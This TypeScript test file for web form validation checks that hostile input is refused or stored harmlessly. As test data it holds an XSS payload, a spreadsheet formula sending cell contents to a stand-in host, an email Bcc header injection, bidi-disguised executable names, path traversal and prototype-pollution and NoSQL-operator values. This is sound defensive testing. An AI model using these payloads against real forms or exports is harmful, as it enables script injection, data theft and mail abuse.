import { describe, expect, it } from 'vitest';
import { exampleField, exampleForm, namePart, options } from './example-fields.ts';
import type { FormValues } from './field-values.ts';
import type { FormField } from './form-definition.ts';
import { formProblems } from './form-problems.ts';
import { type FormEntries, readValues } from './read-values.ts';
import { receivedValues, sentValues } from './sent-values.ts';

/** Invalid input of visitors and programs: for each field by a form, for each argument by a program (FRM-14, SEC). */
const fields: Record<FormField['type'], FormField> = {
  Agree: exampleField('Agree', { required: true }),
  Checkboxes: exampleField('Checkboxes'),
  Dropdown: exampleField('Dropdown'),
  Email: exampleField('Email'),
  Hidden: exampleField('Hidden'),
  MultiLineText: exampleField('MultiLineText', { limit: true, limitType: 'words', limitAmount: 400 }),
  SingleLineText: exampleField('SingleLineText'),
  Name: exampleField('Name', { prefix: namePart(), prefixOptions: options('mr', 'ms') }),
  Number: exampleField('Number', { min: 0, max: 100 }),
  Phone: exampleField('Phone'),
  FileUpload: exampleField('FileUpload', { limitFiles: 3 }),
  Radio: exampleField('Radio'),
};
const all = Object.values(fields);

function keysOf(field: FormField, values: FormValues): string[] {
  return formProblems(exampleForm([field]), values).map(({ part, key }) => (part ? `${part} ${key}` : key));
}

const html = '<img src=x onerror=alert(1)><script>alert(1)</script>';
const formula = '=HYPERLINK("https://evil.example?x="&A1)';
const header = 'a@example.org\r\nBcc: everyone@example.org';
const controls = 'a\0b\u0007c\u001b[2Jd\u202e\u200eg\u200fnp.exe\ud800\u2028e';

/** By type: an input in a form and its problems; empty if it is stored as harmless text. */
const posted: [FormField['type'], string, string[]][] = [
  ['SingleLineText', html, []],
  ['SingleLineText', formula, []],
  ['SingleLineText', header, []],
  ['SingleLineText', controls, []],
  ['SingleLineText', 'a'.repeat(501), ['tooLong']],
  ['MultiLineText', html, []],
  ['MultiLineText', 'a'.repeat(10_001), ['tooLong']],
  ['MultiLineText', 'a '.repeat(401), ['tooManyWords']],
  ['Hidden', html, []],
  ['Hidden', 'a'.repeat(10_001), ['tooLong']],
  ['Email', html, ['email']],
  ['Email', formula, ['email']],
  ['Email', header, ['email']],
  ['Email', 'a@example.org,b@example.org', ['email']],
  ['Email', 'a\0@example.org\u202e', []],
  ['Email', `${'a'.repeat(60)}@${'b.'.repeat(100)}nl`, ['tooLong']],
  ['Number', html, ['numbers']],
  ['Number', formula, ['numbers']],
  ['Number', '1e2', ['numbers']],
  ['Number', 'NaN', ['numbers']],
  ['Number', '9'.repeat(400), ['numbers']],
  ['Number', '9'.repeat(20), ['tooLarge']],
  ['Number', '-1', ['tooSmall']],
  ['Phone', '0591 <b>12</b>', ['numbers']],
  ['Phone', formula, ['numbers']],
  ['Phone', '+31 6 12 34 56 78\r\nBcc: x', ['numbers']],
  ['Phone', '1'.repeat(41), ['tooLong']],
  ['Dropdown', html, ['noOption']],
  ['Dropdown', '__proto__', ['noOption']],
  ['Radio', 'a\nb', ['noOption']],
  ['Radio', 'toString', ['noOption']],
  ['Checkboxes', html, ['noOption']],
  ['Agree', '', ['required']],
];

describe('FRM-14 input of a form', () => {
  it.each(posted)('%s: %j', (type, input, keys) => {
    const field = fields[type];
    expect(keysOf(field, readValues([field], [[field.handle, input]]))).toEqual(keys);
    if (type === 'Checkboxes' || type === 'Agree') return;
    const argument = type === 'Phone' ? { number: input } : input;
    expect(keysOf(field, receivedValues([field], { [field.handle]: argument }))).toEqual(keys);
  });

  it('a name accepts only letters in each of its parts', () => {
    for (const text of [html, formula, 'Ada1', 'a@b', 'x'.repeat(101)]) {
      const entries: FormEntries = ['prefix', 'firstName', 'lastName'].map((part) => [`name.${part}`, text] as const);
      const key = text.length > 100 ? 'tooLong' : 'letters';
      const values = readValues([fields.Name], entries);
      expect(keysOf(fields.Name, values)).toEqual(['prefix noOption', `firstName ${key}`, `lastName ${key}`]);
    }
  });

  it('markup and formulas are stored as typed, without unprintable characters', () => {
    const read = (text: string) => readValues(all, [['singleLineText', text]]).singleLineText;
    expect(read(html)).toBe(html);
    expect(read(formula)).toBe(formula);
    expect(read(header)).toBe('a@example.org  Bcc: everyone@example.org');
    expect(read(controls)).toBe('abc[2Jdgnp.exe e');
    expect(read('\u{1f1f3}\u{1f1f1} \u05e9\u05dc\u05d5\u05dd')).toBe('\u{1f1f3}\u{1f1f1} \u05e9\u05dc\u05d5\u05dd');
  });

  it('fifty files are refused by number, others by size and extension', () => {
    const files = (count: number, name: string, size = 10): FormEntries =>
      Array.from({ length: count }, () => ['fileUpload', { name, size }] as const);
    const keys = (entries: FormEntries) => keysOf(fields.FileUpload, readValues([fields.FileUpload], entries));
    expect(keys(files(50, 'a.pdf'))).toEqual(['tooManyFiles']);
    expect(keys(files(1, 'a.pdf', 11 * 1024 * 1024))).toEqual(['fileTooLarge']);
    expect(keys(files(1, 'a.pdf', 0))).toEqual(['unreadable']);
    expect(keys(files(1, 'a.pdf', -1))).toEqual(['unreadable']);
    for (const name of ['a.svg', 'a.html', 'a.pdf.exe', 'a.exe\0.pdf'.replace('.pdf', ''), 'a\u202efdp.exe', '../../a.js']) {
      expect(keys(files(1, name)), name).toEqual(['fileType']);
    }
    expect(keys([['fileUpload', 'a.pdf']])).toEqual([]);
    expect(keys([['fileUpload.file', '']])).toEqual(['fileGone']);
    expect(keys([['fileUpload.file', 'token rubbish']])).toEqual(['fileGone']);
  });

  it('repeated fields, unknown fields and files instead of texts have no effect', () => {
    const entries: FormEntries = [
      ['email', 'a@example.org'],
      ['email', 'b@example.org'],
      ['singleLineText', { name: 'a.pdf', size: 1 }],
      ['constructor', 'x'],
      ['__proto__', 'x'],
      ['email.country', 'x'],
    ];
    expect(readValues([fields.Email, fields.SingleLineText], entries)).toEqual({ email: 'a@example.org', singleLineText: '' });
  });
});

describe('FRM-14 a value of another shape is refused, and no rule throws', () => {
  const shapes: unknown[] = [
    'text',
    7,
    true,
    ['a', 'b'],
    [1, { a: 1 }, null],
    { number: { $gt: '' } },
    { firstName: ['x'], number: ['1'] },
    { toString: 'x' },
    [{ token: {} }, { toString: 'x' }, { token: { toString: 'x' } }],
    [null],
    [[['a']]],
    () => 'x',
    Number.NaN,
  ];
  it.each(all)('$type', (field) => {
    const rules = [{ field: field.handle, operator: 'contains', value: 'a' } as const];
    const looking = exampleField('Email', {
      handle: 'looking',
      enableConditions: true,
      conditions: { action: 'show', match: 'all', rules },
    });
    for (const shape of shapes) {
      const received = receivedValues([field], { [field.handle]: shape });
      expect(() => formProblems(exampleForm([field]), received)).not.toThrow();
      expect(() => sentValues(exampleForm([field]), received)).not.toThrow();
      expect(() => formProblems(exampleForm([field, looking]), { [field.handle]: shape } as FormValues)).not.toThrow();
    }
  });

  it.each<[FormField['type'], unknown]>([
    ['Agree', 'yes'],
    ['Checkboxes', 'a'],
    ['Checkboxes', true],
    ['Dropdown', ['a']],
    ['Email', { number: 'a@b.nl' }],
    ['Hidden', true],
    ['MultiLineText', ['a']],
    ['SingleLineText', true],
    ['Name', 'Ada'],
    ['Number', true],
    ['Phone', '0591 123456'],
    ['FileUpload', 'token'],
    ['Radio', ['a']],
  ])('%s as %j', (type, value) => {
    const field = fields[type];
    expect(keysOf(field, receivedValues([field], { [field.handle]: value }))).toEqual(['unreadable']);
  });
});

describe('FRM-14 the largest input is validated quickly', () => {
  // A rule with quadratic time would exceed the timeout of a test.
  const long = 100_000;
  const whole = (text: string) => text.repeat(Math.ceil(long / text.length));
  const texts = ['email', 'hidden', 'multiLineText', 'singleLineText', 'name', 'phone'];

  /** Returns the fields that are too long if each contains this text. */
  function tooLong(text: string): (string | null)[] {
    const entries = all.flatMap(({ handle }) =>
      [handle, `${handle}.firstName`, `${handle}.country`, `${handle}.file`].map((name) => [name, text] as const),
    );
    const problems = formProblems(exampleForm(all), readValues(all, entries));
    return problems.filter(({ key }) => key === 'tooLong').map(({ handle }) => handle);
  }

  it.each(['a', '1', '.', '-', "a'", 'a@', '@a.', '1,', 'a '])('100,000 characters of %j', (text) =>
    expect(tooLong(whole(text))).toEqual(texts),
  );

  it.each([' ', '\n', '\r', '\0', '\ud800'])('100,000 characters of %j, which are empty', (text) =>
    expect(tooLong(whole(text))).toEqual([]),
  );

  it('100,000 choices and files', () => {
    const entries: FormEntries = Array.from({ length: long }, (_, index) => ['checkboxes', `x${index}`] as const);
    const files: FormEntries = Array.from({ length: long }, () => ['fileUpload', { name: 'a.pdf', size: 1 }] as const);
    expect(keysOf(fields.Checkboxes, readValues(all, entries))).toEqual(['noOption']);
    expect(keysOf(fields.FileUpload, readValues(all, files))).toEqual(['tooManyFiles']);
  });
});
